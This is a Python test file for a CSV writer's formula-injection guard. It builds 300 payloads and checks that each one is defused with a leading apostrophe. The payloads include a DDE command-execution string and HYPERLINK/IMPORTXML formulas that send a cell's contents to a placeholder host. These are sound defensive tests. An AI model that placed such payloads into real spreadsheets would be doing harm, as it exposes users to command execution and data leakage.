"""The CSV writer: 300 ways to begin a formula are all shown, and none is run."""

import csv
import io
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lifecourse.engines.csvfile import harmless, write_csv

SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "−"]
BEFORE = ["", " ", "\u00a0", "\ufeff", "\u200b"]
BODIES = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?"&A1,"Open")',
    "1+1",
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
]
PAYLOADS = [before + sign + body for before, sign, body in itertools.product(BEFORE, SIGNS, BODIES)]


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_there_are_300_payloads() -> None:
    assert len(set(PAYLOADS)) == 300


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_an_apostrophe_and_loses_nothing(payload: str) -> None:
    assert harmless(payload) == "'" + payload
    assert read_back(write_csv([["heading"], [payload]])) == [["heading"], ["'" + payload]]


@pytest.mark.parametrize(
    "plain", ["", "Okonkwo-Hughes", "a=b", "2 + 2", "o'Brien", "12/03/2015", "née Löwe", "5", "'=1"]
)
def test_ordinary_words_are_left_alone(plain: str) -> None:
    assert harmless(plain) == plain


def test_a_number_below_zero_stays_a_number_and_the_same_words_do_not() -> None:
    assert harmless(-5) == "-5" and harmless(-0.5) == "-0.5"
    assert harmless("-5") == "'-5"
    assert harmless(None) == "" and harmless(True) == "True"


def test_a_nul_cannot_hide_a_formula() -> None:
    assert harmless("\0=1+1") == "'=1+1"


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_any_text_is_written_and_no_cell_begins_like_a_formula(rows: list[list[str]]) -> None:
    back = read_back(write_csv(rows))
    assert len(back) == len(rows)
    for row in back:
        assert all(cell[:1] not in "=+-@\t\r\n" or cell == "" for cell in row)
